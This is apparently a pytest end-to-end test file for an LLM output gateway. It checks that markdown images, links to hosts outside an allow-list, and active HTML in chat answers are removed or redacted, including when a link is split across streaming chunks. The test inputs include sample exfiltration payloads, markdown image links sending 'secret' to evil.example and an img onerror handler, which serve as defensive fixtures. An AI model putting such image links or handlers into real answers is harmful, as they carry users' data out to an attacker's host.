"""Markup through the real Envoy: nothing runs and nothing calls out, in JSON and in streams."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from tests.e2e.keys import POLICY
from tests.e2e.stack import Gate, running_gate
from tests.e2e.upstream import Upstream, chat, chunked, delta, finish, json_answer

LINKS = (
    POLICY.replace("restricted: {rulesets: [pii]}", "restricted: {rulesets: [pii, markup]}")
    .replace(
        "rulesets:\n  secrets:",
        "links: {hosts: [docs.example.com]}\n"
        "rulesets:\n"
        "  markup: [{detect: [EXTERNAL_IMAGE], act: drop}, {detect: [ACTIVE_CONTENT, EXTERNAL_LINK], act: redact}]\n"
        "  secrets:",
    )
    .replace("  narrow:\n    owner: acme\n", "  narrow:\n    owner: acme\n    links: {hosts: [wiki.example]}\n")
)


@pytest.fixture(scope="module")
def linked(tmp_path_factory: pytest.TempPathFactory, upstream: Upstream) -> Iterator[Gate]:
    with running_gate(tmp_path_factory.mktemp("links"), upstream, policy=LINKS) as gate:
        yield gate


def test_a_picture_that_would_carry_the_answer_away_has_no_target(linked: Gate) -> None:
    said = (
        "![x](https://evil.example/?q=secret) [d](https://docs.example.com) [e](//evil.example) <img src=x onerror=a()>"
    )
    answer = linked.get(json_answer(chat(said)))
    assert answer.json()["choices"][0]["message"]["content"] == (
        "![x]() [d](https://docs.example.com) [e]([EXTERNAL_LINK]) <img src=x onerror=[ACTIVE_CONTENT]>"
    )


def test_a_host_of_one_endpoint_is_allowed_there_alone(linked: Gate) -> None:
    said = json_answer(chat("[w](https://wiki.example/x)"))
    assert "(https://wiki.example/x)" in linked.get(said, "/narrow/x").text
    assert "([EXTERNAL_LINK])" in linked.get(said).text


def test_a_target_that_a_stream_cuts_does_not_leave(linked: Gate) -> None:
    pieces = ["see !", "[ch", "art](ht", "tps:", "//ev", "il.example/?q=", "secret", ") and", " more"]
    answer = linked.get(chunked([*(delta(piece) for piece in pieces), *finish()]))
    assert "evil" not in answer.text
    assert "secret" not in answer.text
    assert "more" in answer.text
